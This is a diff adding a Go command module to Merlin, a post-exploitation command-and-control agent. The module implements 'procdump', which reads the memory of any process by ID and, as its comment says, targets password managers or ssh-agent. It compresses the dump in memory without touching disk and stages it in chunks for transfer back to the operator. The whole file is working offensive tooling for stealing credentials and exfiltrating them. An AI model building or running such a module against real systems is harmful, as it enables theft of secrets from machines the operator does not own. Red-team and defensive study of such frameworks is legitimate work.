@@ -0,0 +1,82 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"compress/gzip"
+	"fmt"
+	"strconv"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+// ProcDump dumps the memory of any process, such as a password manager or ssh-agent, without writing to disk. Windows
+// processes are dumped as a full minidump and Linux processes as an ELF core file of their readable mappings. The
+// dump is compressed in memory and staged. A dump that fits in one chunk is returned as the job's file transfer, a larger
+// one is retrieved a part at a time with staging download; the parts are reassembled and decompressed with gunzip
+// procdump <pid> [chunk MB]
+func ProcDump(cmd jobs.Command) (results jobs.Results, transfer *jobs.FileTransfer) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering ProcDump() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "the procdump command requires a process ID"
+		return
+	}
+	pid, err := strconv.Atoi(cmd.Args[0])
+	if err != nil || pid < 1 {
+		results.Stderr = fmt.Sprintf("%s is not a valid process ID", cmd.Args[0])
+		return
+	}
+	chunk := defaultChunkMB
+	if len(cmd.Args) > 1 {
+		if chunk, err = strconv.Atoi(cmd.Args[1]); err != nil || chunk < 1 {
+			results.Stderr = fmt.Sprintf("%s is not a valid chunk size in megabytes", cmd.Args[1])
+			return
+		}
+	}
+
+	var compressed bytes.Buffer
+	zw := gzip.NewWriter(&compressed)
+	name, size, note, err := dumpProcess(pid, zw)
+	if err != nil {
+		results.Stderr = note + fmt.Sprintf("there was an error dumping process %d: %s", pid, err)
+		return
+	}
+	if err = zw.Close(); err != nil {
+		results.Stderr = fmt.Sprintf("there was an error compressing the dump of process %d: %s", pid, err)
+		return
+	}
+
+	id, err := staging.Add(name, compressed.Bytes())
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error staging the dump of process %d: %s", pid, err)
+		return
+	}
+	results.Stdout = note + fmt.Sprintf("Dumped %d bytes from process %d, compressed to %d bytes\n", size, pid, compressed.Len())
+	summary, transfer := stageTransfer(name, id, compressed.Bytes(), chunk)
+	results.Stdout += summary + "Reassemble the parts in order, verify the hash, and decompress the dump with gunzip"
+	return results, transfer
+}